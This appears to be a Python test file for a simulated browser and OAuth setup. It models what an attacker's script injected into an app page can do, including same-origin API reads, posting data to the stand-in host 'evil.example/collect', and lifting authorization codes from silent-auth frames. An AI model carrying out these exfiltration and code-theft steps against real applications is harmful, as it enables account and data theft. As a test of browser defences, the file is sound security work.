"""What a script of the attacker's can do in somebody's page, and what the browser keeps from it."""

from __future__ import annotations

from tests.support.short_stories import sent, told

IN = "login app.sign_in {browser: laptop, scope: read}\n"


def test_a_script_sends_what_its_page_could_send() -> None:
    steps = (
        IN
        + "ride mallory.act {browser: laptop, in: app, url: 'https://app.connectsphere.example/api/accounts/accounts', headers: {X-CSRF: '1'}}"
    )
    record = told(steps, client_bff="on")
    (request,) = sent(record, "ride", "app")
    assert "__Host-session" in request.cookies
    assert request.header("origin") is None  # a same-origin GET
    assert record.outputs["ride"]["json"]["accounts"] == ["alice:account-1"]


def test_an_answer_of_another_origin_is_read_only_with_leave() -> None:
    record = told(IN + "look mallory.act {browser: laptop, in: app, url: 'https://budget.example/me'}")
    assert record.outputs["look"]["status"] in (None, 400)
    record = told(IN + "look mallory.act {browser: laptop, in: app, url: 'https://auth.connectsphere.example/jwks'}")
    assert record.outputs["look"]["json"]["keys"]


def test_what_a_script_sends_home_needs_no_leave() -> None:
    record = told(IN + "home mallory.act {browser: laptop, in: app, url: 'https://evil.example/collect', json: {a: hello}}")
    (request,) = sent(record, "home", "mallory")
    assert request.told == {"a": "hello"}
    assert request.header("origin") == "https://app.connectsphere.example"


def test_a_frame_tells_its_address_on_the_origin_of_the_page_only() -> None:
    silent = "https://auth.connectsphere.example/authorize?response_type=code&client_id=app&prompt=none&scope=read"
    silent += "&redirect_uri=https%3A%2F%2Fapp.connectsphere.example%2Fcb&code_challenge_method=S256&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"
    framed = told(IN + f"frame mallory.act {{browser: laptop, in: app, url: '{silent}', frame: true}}")
    assert "code=" in framed.outputs["frame"]["url"]
    foreign = told(IN + "frame mallory.act {browser: laptop, in: app, url: 'https://budget.example/', frame: true}")
    assert foreign.outputs["frame"]["url"] is None


def test_a_page_that_refuses_frames_shows_nothing_in_one() -> None:
    login = "https://auth.connectsphere.example/authorize?response_type=code&client_id=app&scope=read&redirect_uri=https%3A%2F%2Fapp.connectsphere.example%2Fcb&code_challenge_method=S256&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"
    for profile in ("oauth-bcp", "oauth-basic"):
        record = told(f"frame mallory.act {{browser: laptop, in: app, url: '{login}', frame: true}}", profile)
        assert record.outputs["frame"]["url"] is None  # either not shown, or not of the page's origin
